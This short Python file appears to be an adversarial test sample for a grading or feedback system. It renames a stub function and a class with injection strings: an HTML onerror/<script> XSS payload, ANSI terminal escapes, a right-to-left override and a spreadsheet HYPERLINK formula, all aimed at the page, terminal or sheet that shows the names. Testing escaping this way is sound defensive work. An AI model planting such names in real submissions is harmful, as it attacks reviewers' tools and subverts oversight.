"""Calls functions, classes and files by names that act in a terminal, a page or a spreadsheet.

Harm: a script in the feedback page; a terminal taken over.
Costs: nothing
"""

# %% honest work
# %% hostile
def numerical_gradient(f, w, eps=1e-5):
    raise RuntimeError


EVIL = "<img src=x onerror=alert(1)>\x1b[31m\u202e"
numerical_gradient.__code__ = numerical_gradient.__code__.replace(co_name=EVIL, co_filename=EVIL)
numerical_gradient.__name__ = numerical_gradient.__qualname__ = EVIL
mean_squared_error = type("=HYPERLINK(0)<script>alert(1)</script>\x1b[5m", (), {"__init__": lambda s, *a: None})
